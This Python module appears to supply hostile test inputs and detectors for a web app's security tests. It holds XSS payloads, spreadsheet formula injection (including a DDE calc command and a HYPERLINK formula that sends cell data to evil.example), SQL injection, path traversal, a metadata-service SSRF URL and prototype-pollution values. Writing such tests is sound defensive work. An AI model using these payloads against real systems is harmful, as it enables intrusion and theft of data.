"""What somebody types or sends who means no good, or whose program is broken.

And how it is seen whether one of them came through: `runs` finds what a browser would
run in a page, `counts` what a spreadsheet would count in a file.
"""

import csv
import io
from html.parser import HTMLParser
from typing import Any

MARK = "kiemxss"
MARKUP = (
    f"<script>{MARK}()</script>",
    f'"><img src=x onerror={MARK}()>',
    f"'><svg/onload={MARK}()>",
    f"</title></textarea><script>{MARK}()</script>",
    f'<a href="javascript:{MARK}()">here</a>',
    f"[here](javascript:{MARK}())",
    f'![x](x"onerror={MARK}() )',
    f'<iframe srcdoc="<script>{MARK}()</script>">',
    f"<b onmouseover='{MARK}()' style=width:100%>wide</b>",
    f"<meta http-equiv=refresh content='0;url=javascript:{MARK}()'>",
    f"<form action=javascript:{MARK}()><button>go</button></form>",
    f"javascript:{MARK}()",
    f'" autofocus onfocus={MARK}() x="',
    f"<<script>{MARK}();//<</script>",
    f"<math><a xlink:href=javascript:{MARK}()>x",
)
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"here")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    '"=1+1',
    "  =1+1",
)
TEMPLATES = (
    "{{ 7191*7 }}",
    "{% debug %}",
    "${7191*7}",
    "#{7191*7}",
    "%(x)s %s %n",
    "{0}",
)
COUNTED = "50337"
SQL = (
    "' OR '1'='1",
    "'; DROP TABLE portfolio_initiative; --",
    "1 UNION SELECT digest FROM accounts_apitoken",
    "%' AND 1=0 --",
    "\\",
)
LETTERS = (
    "",
    " ",
    "a\x00b",
    "a\udfffb",
    "\ud800",
    "\u202egpj.exe",
    "\u200b\u2060\ufeff",
    "e\u0301" * 50,
    "Z" + "\u0300" * 300,
    "👩\u200d👩\u200d👧\u200d👦" * 20,
    "\r\nBcc: all@example.org\r\n\r\nHello",
    "\x1b[31mred\x07",
    "İıſK",
    "ﷺ" * 40,
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "//evil.example/",
    "null",
    "undefined",
    "a" * 5001,
    "a" * 100_000,
)
NUMBERS = (
    *("0", "-1", "1e309", "NaN", "Infinity", "-0", "0x10", "1_000", "１２"),
    *("9" * 19, "9" * 400, "99999999999999999999.99", "1,5", "٣"),
)
DAYS = ("0000-00-00", "2026-02-30", "99999-01-01", "-1-1-1", "2026-13-01T25:61:61Z")
TEXTS = (*MARKUP, *FORMULAS, *TEMPLATES, *SQL, *LETTERS, *NUMBERS, *DAYS)
# What JSON can say beside texts.
VALUES: tuple[Any, ...] = (
    *(None, True, False, 0, -1, 1.5, 10**18, 10**40, -(10**400)),
    *([], {}, [[]], [None], {"a": {"b": {"c": []}}}, [{}] * 100, ["x"] * 1000),
    {"__proto__": {"is_administrator": True}},
    {"$gt": ""},
)
# Whole bodies, with what they say they are.
RAW = (
    (b"", "application/json"),
    (b"{", "application/json"),
    (b"\xff\xfe\x00", "application/json"),
    (b"[" * 5000, "application/json"),
    (b'{"a": 1, "a": 2}', "application/json"),
    (b'{"a": NaN}', "application/json"),
    (b'"text"', "application/json"),
    (b"{}", "text/xml"),
    (b"{}", "application/json; charset=utf-7"),
    (b"{}", "multipart/form-data"),
    (b"", "multipart/form-data; boundary="),
    (b"--x\r\nContent-Disposition: form-data", "multipart/form-data; boundary=x"),
    (
        b'--x\r\nContent-Disposition: form-data; name="text"\r\n\r\n\xff\xfe\r\n--x--',
        "multipart/form-data; boundary=x",
    ),
    (
        b'--x\r\nContent-Disposition: form-data; name="file"; filename="../a\x00.svg"'
        b"\r\nContent-Type: image/svg+xml\r\n\r\n<svg onload=x>\r\n--x--",
        "multipart/form-data; boundary=x",
    ),
    (b"a=%ff%fe&%00=%00", "application/x-www-form-urlencoded"),
    (b"&".join(b"a=1" for _ in range(1500)), "application/x-www-form-urlencoded"),
    (b"text=" + b"x" * 1_100_000, "application/x-www-form-urlencoded"),
    (b'{"text": "' + b"x" * 1_100_000 + b'"}', "application/json"),
    (b"a=1", "application/x-www-form-urlencoded; charset=nothing"),
)


LEADS = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}
CODE = ("javascript:", "vbscript:", "data:text/html")


class _Page(HTMLParser):
    """Notes what of a page a browser would run, and that is not ours."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.in_script = False

    def handle_starttag(self, tag: str, attrs: Any) -> None:
        self.in_script = tag == "script"
        for name, value in attrs:
            told = "".join((value or "").split()).lower()
            if name.startswith("on") or name == "srcdoc":
                self.found.append(f"<{tag} {name}>")
            elif name in LEADS and told.startswith(CODE):
                self.found.append(f"<{tag} {name}={told[:30]}>")
            elif tag == "meta" and name == "http-equiv" and told == "refresh":
                self.found.append("<meta refresh>")

    def handle_endtag(self, tag: str) -> None:
        self.in_script = self.in_script and tag != "script"

    def handle_data(self, data: str) -> None:
        if self.in_script and MARK in data and "<li" not in data:
            self.found.append(f"<script>{data[:30]}")


def runs(page: str) -> list[str]:
    """What a browser would run in this page that came from outside."""
    if MARK not in page:
        return []
    reader = _Page()
    reader.feed(page)
    reader.close()
    return reader.found


def counts(table: str) -> list[str]:
    """The cells of a file of comma separated values that are formulas."""
    found = []
    for separator in (",", ";"):
        for row in csv.reader(io.StringIO(table), delimiter=separator):
            found += [cell for cell in row if is_formula(cell)]
    return found


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet counts it: what begins so and is no plain number."""
    start = cell.lstrip("\t\r\n ")
    if not start.startswith(("=", "+", "-", "@")):
        return False
    return not start.lstrip("+-").replace(",", "").replace(".", "").isdigit()
